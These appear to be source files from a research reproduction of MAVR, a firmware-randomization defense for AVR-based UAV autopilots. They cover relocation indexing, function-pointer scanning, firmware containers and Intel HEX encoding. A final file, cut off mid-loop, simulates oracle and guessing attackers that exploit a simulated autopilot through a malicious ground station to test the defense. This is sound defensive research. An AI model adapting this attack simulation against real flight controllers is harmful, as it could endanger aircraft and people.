  relative transfers move with their block and never need touching;
* conditional branches never cross a segment in a randomizable build
  (checked once here, exactly as the streaming patcher checks them on
  every pass);
* function-pointer slots in the data section (already listed in
  :attr:`FirmwareImage.funcptr_locations`).

So the host-side preprocessor decodes the stream **once**, records the
sites, and ships them with the image.  Re-randomization then degrades to
an O(moves + patch-sites) fixup pass with no instruction decoding.

The index is tied to the exact original code bytes: :meth:`matches`
compares a CRC and the text bounds, so a stale index (tampered blob,
edited image) is detected and the caller falls back to the streaming
patcher rather than silently mis-patching.
"""

from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass
from typing import List, Tuple

from ..avr.decoder import decode_at
from ..avr.insn import Mnemonic
from ..errors import BinfmtError, DecodeError, PatchError
from .image import FirmwareImage

M = Mnemonic

# site kinds (serialized as one byte)
KIND_CALL = 0
KIND_JMP = 1
KIND_RCALL = 2
KIND_RJMP = 3

_KIND_TO_MNEMONIC = {
    KIND_CALL: M.CALL,
    KIND_JMP: M.JMP,
    KIND_RCALL: M.RCALL,
    KIND_RJMP: M.RJMP,
}
_MNEMONIC_TO_KIND = {m: k for k, m in _KIND_TO_MNEMONIC.items()}

INDEX_MAGIC = b"MVRX"
INDEX_VERSION = 1
_HEADER = struct.Struct("<4sHHIIIII")  # magic, version, pad, crc, ts, te, n_abs, n_rel
_SITE = struct.Struct("<BII")  # kind, site byte offset, old target byte address


@dataclass(frozen=True)
class PatchSite:
    """One layout-dependent instruction in the original image.

    ``offset`` is the instruction's byte offset in the original code;
    ``target`` is the *old* byte address its operand encodes.  For
    relative sites ``segment_start``/``segment_end`` bracket the segment
    the instruction lives in (its function block, or the fixed region),
    which is permutation-independent.
    """

    kind: int
    offset: int
    target: int
    segment_start: int = 0
    segment_end: int = 0

    @property
    def mnemonic(self) -> Mnemonic:
        return _KIND_TO_MNEMONIC[self.kind]


@dataclass
class RelocationIndex:
    """Every patch site of one image, decode-free at apply time."""

    code_crc: int
    text_start: int
    text_end: int
    absolute_sites: List[PatchSite]
    relative_sites: List[PatchSite]

    @property
    def site_count(self) -> int:
        return len(self.absolute_sites) + len(self.relative_sites)

    def matches(self, image: FirmwareImage) -> bool:
        """Is this index valid for ``image``'s exact original bytes?"""
        return (
            self.text_start == image.text_start
            and self.text_end == image.text_end
            and self.code_crc == (zlib.crc32(image.code) & 0xFFFFFFFF)
        )

    # -- serialization (external-flash blob / preprocessed HEX section) ----

    def to_bytes(self) -> bytes:
        out = bytearray(
            _HEADER.pack(
                INDEX_MAGIC,
                INDEX_VERSION,
                0,
                self.code_crc,
                self.text_start,
                self.text_end,
                len(self.absolute_sites),
                len(self.relative_sites),
            )
        )
        for site in self.absolute_sites:
            out += _SITE.pack(site.kind, site.offset, site.target)
        for site in self.relative_sites:
            out += _SITE.pack(site.kind, site.offset, site.target)
        return bytes(out)

    @classmethod
    def from_bytes(cls, blob: bytes, image: FirmwareImage) -> "RelocationIndex":
        """Parse; relative-site segments are rebuilt from ``image`` symbols."""
        if len(blob) < _HEADER.size:
            raise BinfmtError("relocation index truncated (header)")
        magic, version, _pad, crc, ts, te, n_abs, n_rel = _HEADER.unpack_from(blob, 0)
        if magic != INDEX_MAGIC:
            raise BinfmtError(f"bad relocation index magic: {magic!r}")
        if version != INDEX_VERSION:
            raise BinfmtError(f"unsupported relocation index version: {version}")
        need = _HEADER.size + (n_abs + n_rel) * _SITE.size
        if len(blob) < need:
            raise BinfmtError("relocation index truncated (sites)")
        offset = _HEADER.size
        absolute: List[PatchSite] = []
        for _ in range(n_abs):
            kind, site_off, target = _SITE.unpack_from(blob, offset)
            offset += _SITE.size
            absolute.append(PatchSite(kind, site_off, target))
        segments = _segments(image)
        relative: List[PatchSite] = []
        for _ in range(n_rel):
            kind, site_off, target = _SITE.unpack_from(blob, offset)
            offset += _SITE.size
            start, end = _segment_containing(segments, site_off)
            relative.append(PatchSite(kind, site_off, target, start, end))
        return cls(crc, ts, te, absolute, relative)

    def byte_length(self) -> int:
        return _HEADER.size + self.site_count * _SITE.size


def build_relocation_index(image: FirmwareImage) -> RelocationIndex:
    """The one full-stream decode: sweep every executable segment.

    Segments are the fixed region (vectors + ``__init``, which never
    moves) and each function block — the same tiling the streaming
    patcher walks, so a build failure here is the same failure the legacy
    pass would hit on the first randomization.
    """
    absolute: List[PatchSite] = []
    relative: List[PatchSite] = []
    for start, end in _segments(image):
        offset = start
        while offset + 1 < end:
            try:
                insn, size = decode_at(image.code, offset)
            except DecodeError as exc:
                raise PatchError(
                    f"undecodable word at 0x{offset:05x} inside an executable "
                    "segment; cannot index"
                ) from exc
            mnemonic = insn.mnemonic
            if mnemonic in (M.CALL, M.JMP):
                target = insn.k * 2
                if image.text_start <= target < image.text_end:
                    absolute.append(
                        PatchSite(_MNEMONIC_TO_KIND[mnemonic], offset, target)
                    )
            elif mnemonic in (M.RCALL, M.RJMP):
                target = offset + 2 + insn.k * 2
                if not start <= target < end:
                    relative.append(
                        PatchSite(
                            _MNEMONIC_TO_KIND[mnemonic], offset, target, start, end
                        )
                    )
            elif mnemonic in (M.BRBS, M.BRBC):
                target = offset + 2 + insn.k * 2
                if not start <= target < end:
                    raise PatchError(
                        f"conditional branch at 0x{offset:05x} crosses a block "
                        "boundary; cannot be retargeted within 7 bits"
                    )
            offset += size
    return RelocationIndex(
        code_crc=zlib.crc32(image.code) & 0xFFFFFFFF,
        text_start=image.text_start,
        text_end=image.text_end,
        absolute_sites=absolute,
        relative_sites=relative,
    )


def _segments(image: FirmwareImage) -> List[Tuple[int, int]]:
    """The executable tiling: fixed region first, then each block."""
    fixed_end = min(image.text_start, image.data_start)
    segments = [(0, fixed_end)]
    for symbol in image.symbols.functions():
        segments.append((symbol.address, symbol.end))
    return segments


def _segment_containing(
    segments: List[Tuple[int, int]], offset: int
) -> Tuple[int, int]:
    for start, end in segments:
        if start <= offset < end:
            return start, end
    raise BinfmtError(
        f"relocation site 0x{offset:05x} lies outside every executable segment"
    )
