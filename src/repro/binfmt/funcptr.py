"""Function-pointer discovery in the data section.

Paper §VI-B2: *"references in the data section are scanned for function
pointers.  Any pointers found, particularly C++ class vtables and global
arrays of functions used in some applications for call routing, are also
added to the HEX file to allow MAVR to update these locations at runtime."*

The linker gives us ground truth (it emitted the tables), but a production
preprocessor only has the binary — so we implement the scan too and test it
against ground truth.  A scanned candidate is any aligned 2-byte
little-endian value that equals the word address of a known function entry.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Set

from .image import FirmwareImage


@dataclass(frozen=True)
class PointerCandidate:
    """A data-section slot that looks like a function pointer."""

    location: int  # byte offset of the slot within the image
    target_word: int  # stored value (function word address)
    target_name: str  # function whose entry it matches


def scan_function_pointers(
    image: FirmwareImage, require_alignment: bool = True
) -> List[PointerCandidate]:
    """Scan the data region for slots that reference a function.

    A slot counts when its 2-byte value is a function's word address, or
    the word address of a fixed-region trampoline stub — a ``jmp`` whose
    target is a function entry (how pointer tables work on >128 KB parts).
    """
    entries = {sym.word_address: sym.name for sym in image.symbols.functions()}
    trampolines = _trampoline_map(image, entries)
    found: List[PointerCandidate] = []
    step = 2 if require_alignment else 1
    start = image.data_start
    if require_alignment and start % 2:
        start += 1
    for location in range(start, image.data_end - 1, step):
        value = image.code[location] | (image.code[location + 1] << 8)
        name = entries.get(value) or trampolines.get(value)
        if name is not None:
            found.append(PointerCandidate(location, value, name))
    return found


def _trampoline_map(image: FirmwareImage, entries: dict) -> dict:
    """word address of each fixed-region jmp stub -> target function name."""
    from ..avr.decoder import decode_at
    from ..avr.insn import Mnemonic
    from ..errors import DecodeError

    stubs: dict = {}
    fixed_limit = min(image.text_start, image.data_start)
    offset = 0
    while offset + 1 < fixed_limit:
        try:
            insn, size = decode_at(image.code, offset)
        except DecodeError:
            offset += 2
            continue
        if insn.mnemonic is Mnemonic.JMP and insn.k in entries:
            stubs[offset // 2] = entries[insn.k]
        offset += size
    return stubs


def scan_precision_recall(image: FirmwareImage) -> dict:
    """Compare scan output with the linker's ground-truth pointer slots.

    Returns precision/recall so tests and benches can assert that the scan
    never misses a real pointer (recall == 1.0 is required for the defense
    to be sound; false positives merely cause harmless extra patching when
    the value happens to coincide with a function entry).
    """
    truth: Set[int] = set(image.funcptr_locations)
    scanned: Set[int] = {c.location for c in scan_function_pointers(image)}
    true_positives = len(truth & scanned)
    precision = true_positives / len(scanned) if scanned else 1.0
    recall = true_positives / len(truth) if truth else 1.0
    return {
        "truth": len(truth),
        "scanned": len(scanned),
        "true_positives": true_positives,
        "precision": precision,
        "recall": recall,
    }
