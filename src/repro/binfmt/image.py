"""The firmware image: flash bytes + layout metadata.

A :class:`FirmwareImage` is what every stage of the pipeline exchanges:

* the **linker** produces one,
* the **attacker** statically analyzes one (the *unprotected* binary, per the
  paper's threat model),
* the **MAVR preprocessor** serializes one to a preprocessed HEX file,
* the **master processor** rebuilds a randomized one and programs it.

Layout in flash (byte addresses)::

    0 .. text_start          interrupt vectors + startup stub (fixed)
    text_start .. text_end   function blocks (randomization domain)
    data_start .. data_end   constants/initialized data incl. vtables
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from typing import Dict, List, Optional, Tuple

from ..errors import BinfmtError
from .ihex import decode_with_symbols, encode_with_symbols
from .symtab import Symbol, SymbolKind, SymbolTable


@dataclass
class FirmwareImage:
    """One complete flash image with symbol/layout metadata."""

    code: bytes
    symbols: SymbolTable
    text_start: int
    text_end: int
    data_start: int
    data_end: int
    entry_symbol: str = "main"
    # byte offsets (within code) of 2-byte little-endian function word
    # addresses stored in the data region (vtables, call-routing tables)
    funcptr_locations: List[int] = field(default_factory=list)
    name: str = "firmware"
    toolchain_tag: str = "stock"
    # precomputed patch-site map for the re-randomization fast path
    # (a binfmt.relocindex.RelocationIndex, valid only for these exact
    # code bytes — never carried across a code transformation)
    reloc_index: Optional[object] = field(default=None, compare=False)

    def __post_init__(self) -> None:
        if not (0 <= self.text_start <= self.text_end <= len(self.code)):
            raise BinfmtError("text region out of image bounds")
        if not (0 <= self.data_start <= self.data_end <= len(self.code)):
            raise BinfmtError("data region out of image bounds")

    # -- queries ---------------------------------------------------------

    @property
    def size(self) -> int:
        return len(self.code)

    def function_bytes(self, symbol: Symbol) -> bytes:
        if symbol.end > len(self.code):
            raise BinfmtError(f"symbol {symbol.name} extends past image end")
        return self.code[symbol.address : symbol.end]

    def functions(self) -> List[Symbol]:
        return self.symbols.functions()

    def function_count(self) -> int:
        return len(self.symbols.functions())

    def read_funcptr(self, location: int) -> int:
        """Read the function *word address* stored at a pointer slot."""
        if location + 1 >= len(self.code):
            raise BinfmtError(f"function pointer slot out of range: {location}")
        return self.code[location] | (self.code[location + 1] << 8)

    def entry_address(self) -> int:
        return self.symbols.get(self.entry_symbol).address

    def validate(self) -> None:
        """Structural sanity: tiling, pointer slots, region ordering.

        A pointer slot may target a function block directly, or a
        trampoline stub inside the fixed executable region (how >128 KB
        images keep their 16-bit pointer tables valid).
        """
        self.symbols.validate_tiling(self.text_start, self.text_end)
        fixed_limit = min(self.text_start, self.data_start)
        for location in self.funcptr_locations:
            if not self.data_start <= location < self.data_end - 1:
                raise BinfmtError(
                    f"function pointer slot 0x{location:05x} outside data region"
                )
            target = self.read_funcptr(location) * 2
            inside_fixed = target < fixed_limit
            if not inside_fixed and self.symbols.function_containing(target) is None:
                raise BinfmtError(
                    f"pointer slot 0x{location:05x} targets 0x{target:05x}, "
                    "which is not inside any function"
                )

    # -- transformation helpers -----------------------------------------

    def with_code(self, code: bytes, symbols: Optional[SymbolTable] = None,
                  toolchain_tag: Optional[str] = None) -> "FirmwareImage":
        """Copy of this image with replaced code (and optionally symbols).

        The relocation index is dropped: it maps patch sites of the old
        bytes and would silently mis-patch if applied to the new ones.
        """
        return replace(
            self,
            code=code,
            symbols=symbols if symbols is not None else self.symbols,
            toolchain_tag=toolchain_tag if toolchain_tag is not None else self.toolchain_tag,
            reloc_index=None,
        )

    # -- serialization ----------------------------------------------------

    def to_preprocessed_hex(self, include_index: bool = True) -> str:
        """Serialize to the MAVR preprocessed HEX (symbols prepended).

        When a relocation index is attached it rides along after the
        symbol table, so the master never has to re-derive it;
        ``include_index=False`` reproduces the pre-index format.
        """
        blob = _metadata_blob(self)
        if include_index and self.reloc_index is not None:
            blob += self.reloc_index.to_bytes()
        return encode_with_symbols(self.code, blob)

    @classmethod
    def from_preprocessed_hex(cls, text: str) -> "FirmwareImage":
        code, blob = decode_with_symbols(text)
        return _image_from_blob(code, blob)

    def to_flash_blob(self, include_index: bool = True) -> bytes:
        """Compact binary container for the external flash chip.

        The paper's preprocessor prepends only what the master needs to
        move functions as blocks: *"a list of all functions is compiled
        ... and a list of function start addresses in ascending order is
        added"* — no names.  With start addresses at 4 bytes each, a
        917-function application costs under 4 KB of metadata, which is
        what lets image + symbols squeeze into a chip sized like the
        application processor's flash ("perilously close to the maximum
        allowable size", §VI-B2).
        """
        import struct

        functions = self.symbols.functions()
        tag = self.toolchain_tag.encode("ascii")
        header = struct.pack(
            "<4sIIIIIHHI",
            b"MVRF",
            len(self.code),
            self.text_start,
            self.text_end,
            self.data_start,
            self.data_end,
            len(tag),
            len(self.funcptr_locations),
            len(functions),
        )
        body = bytearray(header)
        body += tag
        for location in self.funcptr_locations:
            body += struct.pack("<I", location)
        for symbol in functions:
            body += struct.pack("<I", symbol.address)
        body += self.code
        if include_index and self.reloc_index is not None:
            body += self.reloc_index.to_bytes()
        return bytes(body)

    @classmethod
    def from_flash_blob(cls, data: bytes) -> "FirmwareImage":
        """Rebuild the image from the chip.

        Function names are not on the chip, so synthetic ``fn_NNNN`` names
        are assigned in address order; sizes come from the gap to the next
        start (the last function ends at ``text_end``).
        """
        import struct

        head = struct.Struct("<4sIIIIIHHI")
        if len(data) < head.size:
            raise BinfmtError("flash container truncated (header)")
        (magic, code_len, text_start, text_end, data_start, data_end,
         tag_len, n_ptrs, n_funcs) = head.unpack_from(data, 0)
        if magic != b"MVRF":
            raise BinfmtError(f"bad flash container magic: {magic!r}")
        offset = head.size
        tag = data[offset : offset + tag_len].decode("ascii")
        offset += tag_len
        locations = []
        for _ in range(n_ptrs):
            (location,) = struct.unpack_from("<I", data, offset)
            locations.append(location)
            offset += 4
        starts = []
        for _ in range(n_funcs):
            (start,) = struct.unpack_from("<I", data, offset)
            starts.append(start)
            offset += 4
        if offset + code_len > len(data):
            raise BinfmtError("flash container truncated (code)")
        code = bytes(data[offset : offset + code_len])
        offset += code_len
        table = SymbolTable()
        ordered = sorted(starts)
        entry_name = "fn_0000"
        for index, start in enumerate(ordered):
            end = ordered[index + 1] if index + 1 < len(ordered) else text_end
            table.add(Symbol(f"fn_{index:04d}", start, end - start, SymbolKind.FUNC))
        image = cls(
            code=code,
            symbols=table,
            text_start=text_start,
            text_end=text_end,
            data_start=data_start,
            data_end=data_end,
            entry_symbol=entry_name,
            funcptr_locations=locations,
            name="from-flash",
            toolchain_tag=tag,
        )
        image.reloc_index = _parse_trailing_index(data[offset:], image)
        return image


_META_MAGIC = b"MVRI"


def _metadata_blob(image: FirmwareImage) -> bytes:
    import struct

    symbols = image.symbols.to_bytes()
    header = struct.pack(
        "<4sIIIIHI",
        _META_MAGIC,
        image.text_start,
        image.text_end,
        image.data_start,
        image.data_end,
        len(image.name.encode("utf-8")),
        len(image.funcptr_locations),
    )
    body = image.name.encode("utf-8")
    body += image.entry_symbol.encode("utf-8") + b"\x00"
    body += image.toolchain_tag.encode("utf-8") + b"\x00"
    for location in image.funcptr_locations:
        body += struct.pack("<I", location)
    return header + body + symbols


def _image_from_blob(code: bytes, blob: bytes) -> FirmwareImage:
    import struct

    head = struct.Struct("<4sIIIIHI")
    if len(blob) < head.size:
        raise BinfmtError("metadata blob truncated")
    magic, text_start, text_end, data_start, data_end, name_len, n_ptrs = (
        head.unpack_from(blob, 0)
    )
    if magic != _META_MAGIC:
        raise BinfmtError(f"bad metadata magic: {magic!r}")
    offset = head.size
    name = blob[offset : offset + name_len].decode("utf-8")
    offset += name_len
    entry_end = blob.index(b"\x00", offset)
    entry_symbol = blob[offset:entry_end].decode("utf-8")
    offset = entry_end + 1
    tag_end = blob.index(b"\x00", offset)
    toolchain_tag = blob[offset:tag_end].decode("utf-8")
    offset = tag_end + 1
    locations = []
    for _ in range(n_ptrs):
        (location,) = struct.unpack_from("<I", blob, offset)
        locations.append(location)
        offset += 4
    symbols, consumed = SymbolTable.from_bytes_with_size(blob[offset:])
    offset += consumed
    image = FirmwareImage(
        code=code,
        symbols=symbols,
        text_start=text_start,
        text_end=text_end,
        data_start=data_start,
        data_end=data_end,
        entry_symbol=entry_symbol,
        funcptr_locations=locations,
        name=name,
        toolchain_tag=toolchain_tag,
    )
    image.reloc_index = _parse_trailing_index(blob[offset:], image)
    return image


def _parse_trailing_index(tail: bytes, image: FirmwareImage):
    """Parse an optional relocation-index section appended to a container.

    Containers written before the index existed simply end where the
    mandatory sections do, so an empty (or unrecognized) tail means "no
    index" — the legacy streaming patcher remains the fallback.
    """
    from .relocindex import INDEX_MAGIC, RelocationIndex

    if len(tail) < 4 or tail[:4] != INDEX_MAGIC:
        return None
    return RelocationIndex.from_bytes(tail, image)
