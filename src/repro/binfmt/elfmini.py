"""Minimal ELF-like object container ("mini-ELF").

The real pipeline is: GCC emits an ELF with a symbol table → preprocessing
reads the symbols → objcopy strips them into an Intel HEX.  Our linker emits
this mini-ELF, which keeps the same separation: a container that still *has*
the symbol table, from which the preprocessor builds the stripped HEX plus
prepended symbol blob.

Binary layout::

    magic "MELF" | u16 version | u16 n_sections
    per section:  u16 name_len | name | u32 addr | u32 size | data
    symbol table blob (repro.binfmt.symtab format)
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from ..errors import BinfmtError
from .symtab import SymbolTable

_MAGIC = b"MELF"
_VERSION = 1


@dataclass
class Section:
    """A named, placed blob of bytes (.text, .data, .vectors, ...)."""

    name: str
    address: int
    data: bytes

    @property
    def end(self) -> int:
        return self.address + len(self.data)


@dataclass
class MiniElf:
    """Sections + symbols, serializable, convertible to a flat flash image."""

    sections: List[Section] = field(default_factory=list)
    symbols: SymbolTable = field(default_factory=SymbolTable)

    def section(self, name: str) -> Section:
        for sec in self.sections:
            if sec.name == name:
                return sec
        raise BinfmtError(f"no such section: {name}")

    def has_section(self, name: str) -> bool:
        return any(sec.name == name for sec in self.sections)

    def add_section(self, section: Section) -> None:
        if self.has_section(section.name):
            raise BinfmtError(f"duplicate section: {section.name}")
        for existing in self.sections:
            if section.address < existing.end and existing.address < section.end:
                raise BinfmtError(
                    f"section {section.name} overlaps {existing.name}"
                )
        self.sections.append(section)

    def flat_image(self, fill: int = 0xFF) -> bytes:
        """Flatten all sections into one contiguous image from address 0."""
        if not self.sections:
            return b""
        end = max(sec.end for sec in self.sections)
        image = bytearray([fill]) * end
        for sec in self.sections:
            image[sec.address : sec.end] = sec.data
        return bytes(image)

    # -- serialization ---------------------------------------------------

    def to_bytes(self) -> bytes:
        out = bytearray(struct.pack("<4sHH", _MAGIC, _VERSION, len(self.sections)))
        for sec in self.sections:
            raw_name = sec.name.encode("utf-8")
            out += struct.pack("<H", len(raw_name))
            out += raw_name
            out += struct.pack("<II", sec.address, len(sec.data))
            out += sec.data
        out += self.symbols.to_bytes()
        return bytes(out)

    @classmethod
    def from_bytes(cls, blob: bytes) -> "MiniElf":
        head = struct.Struct("<4sHH")
        if len(blob) < head.size:
            raise BinfmtError("mini-ELF truncated (header)")
        magic, version, n_sections = head.unpack_from(blob, 0)
        if magic != _MAGIC:
            raise BinfmtError(f"bad mini-ELF magic: {magic!r}")
        if version != _VERSION:
            raise BinfmtError(f"unsupported mini-ELF version: {version}")
        offset = head.size
        obj = cls()
        for _ in range(n_sections):
            (name_len,) = struct.unpack_from("<H", blob, offset)
            offset += 2
            name = blob[offset : offset + name_len].decode("utf-8")
            offset += name_len
            address, size = struct.unpack_from("<II", blob, offset)
            offset += 8
            if offset + size > len(blob):
                raise BinfmtError(f"mini-ELF truncated (section {name})")
            obj.add_section(Section(name, address, bytes(blob[offset : offset + size])))
            offset += size
        obj.symbols = SymbolTable.from_bytes(blob[offset:])
        return obj
