"""Binary container formats: Intel HEX, symbol tables, firmware images."""

from .elfmini import MiniElf, Section
from .funcptr import PointerCandidate, scan_function_pointers, scan_precision_recall
from .ihex import (
    SYMBOL_WINDOW_BASE,
    decode,
    decode_with_symbols,
    encode,
    encode_with_symbols,
)
from .image import FirmwareImage
from .relocindex import PatchSite, RelocationIndex, build_relocation_index
from .symtab import Symbol, SymbolKind, SymbolTable

__all__ = [
    "PatchSite",
    "RelocationIndex",
    "build_relocation_index",
    "MiniElf",
    "Section",
    "PointerCandidate",
    "scan_function_pointers",
    "scan_precision_recall",
    "SYMBOL_WINDOW_BASE",
    "decode",
    "decode_with_symbols",
    "encode",
    "encode_with_symbols",
    "FirmwareImage",
    "Symbol",
    "SymbolKind",
    "SymbolTable",
]
