"""Intel HEX encoding/decoding.

The flash utility (avrdude in the paper) moves firmware around as Intel HEX
text.  We implement the record types needed for 256 KB images:

* ``00`` data
* ``01`` end-of-file
* ``04`` extended linear address (upper 16 bits), required above 64 KB

The MAVR preprocessor prepends symbol information to the HEX file; we encode
that blob as ordinary data records in a reserved virtual window above flash
(see :data:`SYMBOL_WINDOW_BASE`), so standard tooling still parses the file.
"""

from __future__ import annotations

from typing import Dict, List, Tuple

from ..errors import BinfmtError

RECORD_DATA = 0x00
RECORD_EOF = 0x01
RECORD_EXT_LINEAR = 0x04

# Virtual address window where prepended (non-flash) metadata records live.
SYMBOL_WINDOW_BASE = 0x0080_0000


def _checksum(record_bytes: bytes) -> int:
    return (-sum(record_bytes)) & 0xFF


def _format_record(address16: int, record_type: int, payload: bytes) -> str:
    record = bytes([len(payload), (address16 >> 8) & 0xFF, address16 & 0xFF, record_type]) + payload
    return ":" + record.hex().upper() + f"{_checksum(record):02X}"


def encode(chunks: Dict[int, bytes], record_size: int = 16) -> str:
    """Encode ``{absolute_address: data}`` chunks into Intel HEX text.

    Chunks are emitted in ascending address order; extended linear address
    records are inserted whenever the upper 16 address bits change.
    """
    if record_size <= 0 or record_size > 255:
        raise BinfmtError(f"record size out of range: {record_size}")
    lines: List[str] = []
    current_upper = None
    for base in sorted(chunks):
        data = chunks[base]
        offset = 0
        while offset < len(data):
            address = base + offset
            upper = (address >> 16) & 0xFFFF
            if upper != current_upper:
                lines.append(_format_record(0, RECORD_EXT_LINEAR, bytes([upper >> 8, upper & 0xFF])))
                current_upper = upper
            # do not cross a 64 KB boundary inside one record
            span = min(record_size, len(data) - offset, 0x10000 - (address & 0xFFFF))
            lines.append(_format_record(address & 0xFFFF, RECORD_DATA, data[offset : offset + span]))
            offset += span
    lines.append(_format_record(0, RECORD_EOF, b""))
    return "\n".join(lines) + "\n"


def decode(text: str) -> Dict[int, bytes]:
    """Decode Intel HEX text into contiguous ``{address: data}`` chunks."""
    sparse: Dict[int, int] = {}
    upper = 0
    saw_eof = False
    for line_number, raw_line in enumerate(text.splitlines(), start=1):
        line = raw_line.strip()
        if not line:
            continue
        if saw_eof:
            raise BinfmtError(f"line {line_number}: data after EOF record")
        if not line.startswith(":"):
            raise BinfmtError(f"line {line_number}: missing ':' start code")
        try:
            blob = bytes.fromhex(line[1:])
        except ValueError as exc:
            raise BinfmtError(f"line {line_number}: bad hex digits") from exc
        if len(blob) < 5:
            raise BinfmtError(f"line {line_number}: record too short")
        count, addr_high, addr_low, record_type = blob[0], blob[1], blob[2], blob[3]
        payload = blob[4:-1]
        if len(payload) != count:
            raise BinfmtError(f"line {line_number}: length mismatch")
        if sum(blob) & 0xFF != 0:
            raise BinfmtError(f"line {line_number}: checksum mismatch")
        if record_type == RECORD_DATA:
            base = (upper << 16) | (addr_high << 8) | addr_low
            for i, value in enumerate(payload):
                sparse[base + i] = value
        elif record_type == RECORD_EOF:
            saw_eof = True
        elif record_type == RECORD_EXT_LINEAR:
            if count != 2:
                raise BinfmtError(f"line {line_number}: bad extended address record")
            upper = (payload[0] << 8) | payload[1]
        else:
            raise BinfmtError(f"line {line_number}: unsupported record type {record_type:02x}")
    if not saw_eof:
        raise BinfmtError("missing EOF record")
    return _coalesce(sparse)


def _coalesce(sparse: Dict[int, int]) -> Dict[int, bytes]:
    chunks: Dict[int, bytes] = {}
    if not sparse:
        return chunks
    addresses = sorted(sparse)
    start = addresses[0]
    run = bytearray([sparse[start]])
    previous = start
    for address in addresses[1:]:
        if address == previous + 1:
            run.append(sparse[address])
        else:
            chunks[start] = bytes(run)
            start = address
            run = bytearray([sparse[address]])
        previous = address
    chunks[start] = bytes(run)
    return chunks


def encode_with_symbols(code: bytes, symbol_blob: bytes, code_base: int = 0) -> str:
    """Produce the MAVR *preprocessed* HEX: symbol blob prepended to code.

    The symbol blob occupies the reserved virtual window so the application
    bytes remain exactly where the flash utility expects them.
    """
    chunks = {SYMBOL_WINDOW_BASE: symbol_blob, code_base: code}
    # dict ordering: encode() sorts by address, so the window base must sort
    # after code — it does (0x800000 > any flash address).  The blob is
    # conceptually "prepended"; physically it is a separate address island.
    return encode(chunks)


def decode_with_symbols(text: str, code_base: int = 0) -> Tuple[bytes, bytes]:
    """Split a preprocessed HEX back into ``(code, symbol_blob)``."""
    chunks = decode(text)
    symbol_blob = b""
    code_parts: Dict[int, bytes] = {}
    for base, data in chunks.items():
        if base >= SYMBOL_WINDOW_BASE:
            if symbol_blob:
                raise BinfmtError("multiple symbol windows in HEX file")
            symbol_blob = data
        else:
            code_parts[base] = data
    if not code_parts:
        raise BinfmtError("no code records in HEX file")
    start = min(code_parts)
    if start != code_base:
        raise BinfmtError(
            f"code does not start at 0x{code_base:05x} (found 0x{start:05x})"
        )
    end = max(base + len(data) for base, data in code_parts.items())
    image = bytearray(b"\xff" * (end - code_base))
    for base, data in code_parts.items():
        image[base - code_base : base - code_base + len(data)] = data
    return bytes(image), symbol_blob
