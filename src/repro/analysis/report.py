"""Table formatting for benchmark output (paper-style rows)."""

from __future__ import annotations

from typing import Iterable, List, Sequence


def format_table(
    headers: Sequence[str], rows: Iterable[Sequence[object]], title: str = ""
) -> str:
    """Render an ASCII table like the paper's Tables I-III."""
    materialized: List[List[str]] = [[str(cell) for cell in row] for row in rows]
    widths = [len(header) for header in headers]
    for row in materialized:
        for index, cell in enumerate(row):
            widths[index] = max(widths[index], len(cell))
    lines: List[str] = []
    if title:
        lines.append(title)
    separator = "-+-".join("-" * width for width in widths)
    lines.append(" | ".join(h.ljust(w) for h, w in zip(headers, widths)))
    lines.append(separator)
    for row in materialized:
        lines.append(" | ".join(c.ljust(w) for c, w in zip(row, widths)))
    return "\n".join(lines)


def paper_vs_measured(
    title: str,
    rows: Iterable[Sequence[object]],
    value_name: str = "value",
) -> str:
    """Three-column comparison: application, paper, measured."""
    return format_table(
        ("application", f"paper {value_name}", f"measured {value_name}"),
        rows,
        title=title,
    )
