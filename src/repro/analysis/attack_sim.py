"""Full-system attack simulation: guessing attackers vs the live defense.

Closes the loop between the closed-form brute-force analysis and the
simulated hardware:

* :func:`oracle_attack` — an attacker who *knows* the current permutation
  (insider / fuse bypass) builds a fresh exploit against the randomized
  image and succeeds.  This falsifies the alternative explanation for
  §VII-A ("maybe randomization just breaks the firmware"): capability is
  intact, only secrecy defeats the attacker.
* :func:`guessing_campaign` — an attacker who replays exploits built
  against *wrong* layout guesses at a MAVR system.  Measures effect rate
  (expected: zero at any feasible number of attempts) and the defense's
  detection/recovery behaviour.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import List, Optional

from ..attack.chain import Write3
from ..attack.runtime_facts import derive_runtime_facts
from ..attack.v2_stealthy import StealthyAttack
from ..binfmt.image import FirmwareImage
from ..core.mavr import MavrSystem
from ..core.patching import randomize_image
from ..mavlink.messages import PARAM_SET
from ..uav.autopilot import Autopilot
from ..uav.groundstation import MaliciousGroundStation


@dataclass
class CampaignResult:
    """Outcome of a multi-attempt guessing campaign."""

    attempts: int = 0
    effects: int = 0  # attempts whose write actually landed
    detections: int = 0
    randomizations_consumed: int = 0
    still_flying: bool = True
    per_attempt_detected: List[bool] = field(default_factory=list)

    @property
    def effect_rate(self) -> float:
        return self.effects / self.attempts if self.attempts else 0.0

    @property
    def detection_rate(self) -> float:
        return self.detections / self.attempts if self.attempts else 0.0


def oracle_attack(
    image: FirmwareImage, seed: int = 0, target_variable: str = "gyro_offset",
    values: bytes = b"\x40\x00\x00",
) -> bool:
    """Attack a randomized image with full knowledge of its layout.

    Returns True when the write lands stealthily — demonstrating that the
    randomized firmware is still perfectly exploitable *if* the layout
    leaks, i.e. MAVR's security rests entirely on layout secrecy (which
    the readout fuse enforces).
    """
    randomized, _permutation = randomize_image(image, random.Random(seed))
    autopilot = Autopilot(randomized)
    autopilot.debug_symbols = image.symbols  # host-side SRAM map
    outcome = StealthyAttack(randomized).execute(
        autopilot, target_variable=target_variable, values=values
    )
    return outcome.succeeded and outcome.stealthy


def guessing_campaign(
    image: FirmwareImage,
    attempts: int = 5,
    seed: int = 0,
    target_variable: str = "gyro_offset",
) -> CampaignResult:
    """Replay wrong-layout exploits at a MAVR-protected system.

    Each attempt builds a V2 exploit against a *guessed* randomization of
    the original binary (the attacker can generate candidate layouts —
    they have the unprotected image — they just cannot know which one is
    live).  The exploit is delivered, the defense observes, and the
    campaign records what happened.
    """
    rng = random.Random(seed)
    system = MavrSystem(image, seed=rng.randrange(2**31))
    system.boot()
    system.run(10)
    station = MaliciousGroundStation()
    result = CampaignResult()
    baseline = system.autopilot.read_variable(target_variable)

    from ..attack.runtime_facts import variable_address

    target = variable_address(image, target_variable)
    facts = derive_runtime_facts(image)  # stack geometry is layout-invariant

    for _ in range(attempts):
        result.attempts += 1
